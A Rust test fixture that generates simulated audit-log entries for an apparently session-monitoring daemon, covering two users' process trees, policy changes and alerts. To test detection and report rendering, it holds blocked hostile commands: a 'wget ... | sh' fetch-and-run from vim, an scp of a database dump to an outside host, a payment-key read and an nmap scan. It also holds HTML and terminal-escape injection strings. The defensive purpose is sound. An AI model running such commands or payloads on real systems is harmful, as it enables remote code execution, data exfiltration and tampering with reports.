// SPDX-License-Identifier: MIT OR Apache-2.0
//! An afternoon on a server, as the daemon would have written it down: the record that is looked at in a browser, and that
//! `docs/audit.md` shows commands on.

use super::{Entry, Fixture, Timestamp, Value, json};
use std::collections::HashMap;

/// Alice's session, with some thirty processes.
pub(super) const ALICE: &str = "3b0kmxp000";
/// Bob's, which is short and still open.
pub(super) const BOB: &str = "3b0kn4r000";

/// What alice types to break a report with.
pub(super) const HOSTILE: [&str; 3] =
    ["<script>alert(1)</script>", "\u{1b}[2J\u{202e}", "<style>*{display:none}</style>"];

/// What alice's processes do: the second, what, the process, and what else there is to say. `·` is a blank within an argument.
const OF_ALICE: &str = "
  0.1 fork 24033 24011 sshd
  0.1 exec 24033 /usr/bin/bash -l
  0.3 fork 24034 24033 bash
  0.3 exec 24034 /usr/bin/id -u
  0.3 end 24034 0
  0.4 fork 24035 24033 bash
  0.4 exec 24035 /usr/bin/dircolors -b
  0.4 end 24035 0
 21.0 fork 24051 24033 bash
 21.0 exec 24051 /usr/bin/git pull --ff-only
 21.1 fork 24052 24051 git
 21.1 exec 24052 /usr/bin/git fetch --update-head-ok
 21.1 fork 24053 24052 git
 21.1 exec 24053 /usr/bin/ssh git@git.example.org git-upload-pack·'shop/web.git'
 23.8 end 24053 0
 23.9 fork 24054 24052 git
 23.9 exec 24054 /usr/bin/git rev-list --objects --stdin --not --all --quiet --alternate-refs
 24.0 end 24054 0
 24.1 end 24052 0
 24.1 fork 24055 24051 git
 24.1 exec 24055 /usr/bin/git merge --ff-only FETCH_HEAD
 24.3 end 24055 0
 24.4 end 24051 0
 60.0 fork 24061 24033 bash
 60.0 exec 24061 /usr/bin/make -j2 all
 60.1 fork 24062 24061 make
 60.1 exec 24062 /usr/bin/sh -c cc·-O2·-Wall·-Wextra·-Iinclude·-o·build/import·src/import.c·&&·./build/import·--check·fixtures/orders-2026-09.csv
 60.1 fork 24063 24062 sh
 60.1 exec 24063 /usr/bin/cc -O2 -Wall -Wextra -Iinclude -o build/import src/import.c
 60.1 fork 24064 24063 cc
 60.1 exec 24064 /usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -I include -imultiarch x86_64-linux-gnu src/import.c -quiet -dumpdir build/ -dumpbase import.c -dumpbase-ext .c -mtune=generic -march=x86-64 -O2 -Wall -Wextra -fasynchronous-unwind-tables -o /tmp/ccQ9sBxa.s
 61.9 end 24064 0
 61.9 fork 24065 24063 cc
 61.9 exec 24065 /usr/bin/as -I include --64 -o /tmp/ccT2mWfe.o /tmp/ccQ9sBxa.s
 62.0 end 24065 0
 62.0 fork 24066 24063 cc
 62.0 exec 24066 /usr/lib/gcc/x86_64-linux-gnu/12/collect2 -o build/import /tmp/ccT2mWfe.o
 62.0 fork 24067 24066 collect2
 62.0 exec 24067 /usr/bin/ld -o build/import /tmp/ccT2mWfe.o
 62.3 end 24067 0
 62.3 end 24066 0
 62.3 end 24063 0
 62.4 fork 24068 24062 sh
 62.4 exec 24068 /home/alice/web/build/import --check fixtures/orders-2026-09.csv
 62.5 refused 24068 read /srv/shop/keys/payment.pem 24 1
 62.5 end 24068 1
 62.6 end 24062 1
 62.6 end 24061 2
130.0 fork 24071 24033 bash
130.0 kill 24071 6 /usr/bin/df -h
130.0 signal 24071 9
141.0 fork 24072 24033 bash
141.0 exec 24072 /usr/bin/ln -s /usr/bin/df hello
141.0 end 24072 0
146.0 fork 24073 24033 bash
146.0 kill 24073 6 /usr/bin/df
146.0 signal 24073 9
190.0 fork 24074 24033 bash
190.0 exec 24074 /usr/bin/psql --host=db1.example.org --username=shop --command=select·count(*)·from·orders postgres://shop:***@db1.example.org/shop
190.2 connect 24074 192.0.2.40:5432 31 3
190.3 end 24074 2
240.0 fork 24075 24033 bash
240.0 exec 24075 /usr/bin/curl --silent --show-error --location --retry 3 --header Authorization:·Bearer·*** --output /home/alice/web/cache/3c59dc048e8850243be8079a5c74d079.tar.gz https://artifacts.example.org/repository/releases/org/example/shop/web-frontend/2026.9.3/web-frontend-2026.9.3-x86_64-unknown-linux-gnu.tar.gz?signature=***
247.5 end 24075 0
248.0 fork 24076 24033 bash
248.0 exec 24076 /usr/bin/tar -C cache -xzf cache/3c59dc048e8850243be8079a5c74d079.tar.gz
248.0 fork 24077 24076 tar
248.0 exec 24077 /usr/bin/gzip -d
248.6 end 24077 0
248.6 end 24076 0
300.0 fork 24078 24033 bash
300.0 deny 24078 9 /usr/bin/sudo -i
300.0 end 24078 126
310.0 fork 24079 24033 bash
310.0 exec 24079 /usr/bin/vim src/import.c
322.0 fork 24080 24079 vim
322.0 exec 24080 /usr/bin/bash -c (wget·-qO-·https://198.51.100.9/x·|·sh)·>/tmp/v1·2>&1
322.0 fork 24081 24080 bash
322.0 fork 24082 24081 bash
322.0 kill 24082 7 /usr/bin/wget -qO- https://198.51.100.9/x
322.0 signal 24082 9
322.0 fork 24083 24081 bash
322.0 exec 24083 /usr/bin/sh
322.0 end 24083 0
322.1 end 24081 0
322.1 end 24080 0
345.0 end 24079 0
600.0 fork 24090 24033 bash
600.0 audit 24090 4 /usr/bin/nmap -sT 192.0.2.0/24
600.0 exec 24090 /usr/bin/nmap -sT 192.0.2.0/24
641.0 end 24090 0
660.0 end 24033 0
";

/// What bob's do.
const OF_BOB: &str = "
  0.1 fork 24122 24101 sshd
  0.1 exec 24122 /usr/bin/bash -l
  9.0 fork 24130 24122 bash
  9.0 exec 24130 /usr/bin/pg_dump --format=custom --file=/srv/backup/shop.dump shop
 37.4 end 24130 0
 51.0 fork 24131 24122 bash
 51.0 exec 24131 /usr/bin/bash ./ship.sh /srv/backup/shop.dump
 51.0 fork 24132 24131 bash
 51.0 kill 24132 12 /usr/bin/scp /srv/backup/shop.dump bob@203.0.113.7:
 51.0 signal 24132 9
 51.1 refused 24131 write /srv/backup/.shipped 15 1
 51.1 end 24131 1
";

/// Who is in which session.
struct Story {
    id: &'static str,
    user: &'static str,
    uid: u32,
    from: &'static str,
    policy: &'static str,
    /// When it begins.
    began_ms: u64,
    parents: HashMap<u32, u32>,
    forked_ms: HashMap<u32, u64>,
}

impl Story {
    fn of(
        id: &'static str,
        user: &'static str,
        uid: u32,
        from: &'static str,
        policy: &'static str,
        began_ms: u64,
    ) -> Self {
        Self { id, user, uid, from, policy, began_ms, parents: HashMap::new(), forked_ms: HashMap::new() }
    }

    /// An entry, so long after it began.
    fn entry(&self, after_ms: u64, severity: &str, event: Value) -> Entry {
        let session = json!({
            "id": self.id, "sequence": 0, "user": self.user, "uid": self.uid, "service": "sshd", "from": self.from,
            "login_uid": self.uid, "audit_session": self.uid - 960,
        });
        at(self.began_ms + after_ms, severity, Some(session), event)
    }

    /// What its processes do.
    fn acts(&mut self, lines: &str) -> Vec<Entry> {
        lines.lines().filter(|line| !line.trim().is_empty()).map(|line| self.act(line)).collect()
    }

    fn act(&mut self, line: &str) -> Entry {
        let words: Vec<_> = line.split_whitespace().map(|word| word.replace('·', " ")).collect();
        let [second, verb, pid, rest @ ..] = &words[..] else { panic!("{line}") };
        let pid: u32 = pid.parse().unwrap();
        let number = |at: usize| rest[at].parse::<u32>().unwrap();
        // There is one digit behind the point.
        let ms = second.replace('.', "").parse::<u64>().unwrap() * 100;
        let ended = |name: &str| {
            let run_time_ns = (ms - self.forked_ms[&pid]) * 1_000_000 + 2_416_308;
            json!({"event": "ended", "pid": pid, name: number(0), "run_time_ns": run_time_ns})
        };
        let (severity, event) = match verb.as_str() {
            "fork" => {
                self.parents.insert(pid, number(0));
                self.forked_ms.insert(pid, ms);
                ("info", json!({"event": "forked", "pid": pid, "parent_pid": number(0), "comm": rest[1]}))
            }
            "end" => ("info", ended("code")),
            "signal" => ("info", ended("signal")),
            "exec" => ("info", self.execution("executed", "allow", pid, ": default", rest)),
            "refused" => (
                "high",
                self.operation(
                    pid,
                    &rest[0],
                    json!({"path": rest[1], "inode": 9, "device": "254:1"}),
                    None,
                    rest,
                ),
            ),
            "connect" => ("medium", self.operation(pid, "connect", Value::Null, Some(&rest[0]), rest)),
            action => {
                ("medium", self.execution("blocked", action, pid, &format!(":{}", rest[0]), &rest[1..]))
            }
        };
        self.entry(ms, severity, event)
    }

    fn process(&self, pid: u32) -> Value {
        json!({
            "pid": pid, "parent_pid": self.parents[&pid], "uid": self.uid, "euid": self.uid, "comm": "bash",
            "cwd": format!("/home/{}", self.user), "tty": "pts/0",
        })
    }

    fn rule(&self, place: &str) -> String {
        format!("/etc/sac/policies/{}.yaml{place}", self.policy)
    }

    fn execution(&self, event: &str, action: &str, pid: u32, rule: &str, arguments: &[String]) -> Value {
        // Of a link it is the program that counts, and the link that was typed.
        let is_link = arguments == ["/usr/bin/df"];
        let typed = if is_link { "./hello" } else { arguments[0].as_str() };
        json!({
            "event": event, "process": self.process(pid), "file": {"path": arguments[0], "inode": 7, "device": "254:1"},
            "typed": typed, "arguments": arguments,
            "verdict": {"action": action, "rule": self.rule(rule), "policy": self.policy},
        })
    }

    fn operation(
        &self,
        pid: u32,
        operation: &str,
        file: Value,
        address: Option<&String>,
        rest: &[String],
    ) -> Value {
        let [.., rule, count] = rest else { panic!("{rest:?}") };
        let mut event = json!({
            "event": "operation", "process": self.process(pid), "operation": operation,
            "count": count.parse::<u64>().unwrap(),
            "verdict": {"action": "deny", "rule": self.rule(&format!(":{rule}")), "policy": self.policy},
        });
        match address {
            Some(address) => event["address"] = json!(address),
            None => event["file"] = file,
        }
        event
    }

    fn opened(&self, pid: u32) -> Entry {
        let groups = json!([self.user, self.policy]);
        let cgroup =
            format!("/sys/fs/cgroup/user.slice/user-{}.slice/session-7.scope/sac-{}", self.uid, self.id);
        let event = json!({
            "event": "session-opened", "policies": [self.policy], "tty": "ssh", "groups": groups, "cgroup": cgroup, "pid": pid,
        });
        self.entry(0, "info", event)
    }
}

/// An entry at a moment of the afternoon.
fn at(ms: u64, severity: &str, session: Option<Value>, event: Value) -> Entry {
    let time = Timestamp::from_millisecond(1_790_000_000_000 + i64::try_from(ms).unwrap()).unwrap();
    let mut entry = json!({"time": time, "boot_ns": (100_000_000 + ms) * 1_000_000, "severity": severity});
    if let Some(session) = session {
        entry["session"] = session;
    }
    for (name, value) in event.as_object().unwrap() {
        entry[name] = value.clone();
    }
    serde_json::from_value(entry).unwrap()
}

fn of_alice() -> Vec<Entry> {
    let mut story = Story::of(ALICE, "alice", 1001, "192.0.2.7", "developers", 40_000);
    let mut entries = vec![story.opened(24011)];
    entries.extend(story.acts(OF_ALICE));
    let echoed = ["/usr/bin/printf", HOSTILE[0], HOSTILE[1], HOSTILE[2], ""].map(str::to_owned);
    story.parents.insert(24091, 24033);
    let event = |event, action, rule| story.execution(event, action, 24091, rule, &echoed);
    entries.push(story.entry(650_000, "medium", event("blocked", "deny", ":11")));
    let controlled = |action: &str| json!({"event": "session-controlled", "action": action, "by": "root", "reason": "incident 4711: who is this?"});
    entries.push(story.entry(330_000, "medium", controlled("frozen")));
    entries.push(story.entry(340_000, "medium", controlled("thawed")));
    entries.push(story.entry(400_000, "high", json!({"event": "events-lost", "count": 12, "by": "kernel"})));
    let changed = json!({"event": "policy-changed", "from_policies": ["developers"], "to_policies": ["developers", "incident"]});
    entries.push(story.entry(420_500, "low", changed));
    let became =
        json!({"event": "identity-changed", "by": "su", "to_user": "deploy", "to_uid": 1200, "pid": 24090});
    entries.push(story.entry(500_000, "low", became));
    let totals = json!({"executed": 29, "blocked": 9, "events_lost": 12});
    entries.push(story.entry(
        660_100,
        "info",
        json!({"event": "session-closed", "totals": totals, "duration_ms": 660_100}),
    ));
    entries
}

fn of_bob() -> Vec<Entry> {
    let mut story = Story::of(BOB, "bob", 1002, "2001:db8::17", "dba", 200_000);
    let mut entries = vec![story.opened(24101)];
    entries.extend(story.acts(OF_BOB));
    entries
}

fn of_machine() -> Vec<Entry> {
    let loaded = |names: Value, digest: &str| json!({"event": "policy-loaded", "policies": names, "digest": digest.repeat(32)});
    let grant = |event: &str| json!({"event": event, "grant": 3, "user": "bob", "program": "/usr/bin/tcpdump", "for_s": 600, "reason": "slow backups", "by": "root"});
    let mut ended = grant("grant-ended");
    ended["revoked"] = json!(true);
    let refused = json!({
        "event": "session-refused", "user": "mallory", "service": "sshd", "from": "203.0.113.66",
        "reason": "no policy holds for mallory, and nobody without one may log in",
    });
    let events = [
        (0, "info", json!({"event": "loader-started", "version": "0.1.0", "sessions": 0})),
        (100, "info", loaded(json!(["dba", "default", "developers"]), "2c")),
        (150_000, "medium", refused),
        (230_000, "low", grant("granted")),
        (290_000, "low", ended),
        (
            440_000,
            "high",
            json!({"event": "policy-refused", "reason": "/etc/sac/policies/incident.yaml:4: `prgrams` is not a key; did you mean `programs`?"}),
        ),
        (459_000, "low", loaded(json!(["dba", "default", "developers", "incident"]), "f9")),
        (
            560_000,
            "critical",
            json!({"event": "tamper", "what": "/etc/sac/policies/dba.yaml may be written to by others (mode 0666)"}),
        ),
        (
            580_000,
            "high",
            json!({"event": "unlabelled", "user": "carol", "pid": 23210, "outcome": "reported"}),
        ),
        (700_000, "info", json!({"event": "checkpoint"})),
    ];
    events.map(|(ms, severity, event)| at(ms, severity, None, event)).into()
}

/// All of it, in order.
pub(super) fn afternoon() -> Fixture {
    let mut entries = [of_machine(), of_alice(), of_bob()].concat();
    entries.sort_by_key(|entry| entry.boot_ns);
    Fixture::in_files_of(1 << 20, entries)
}
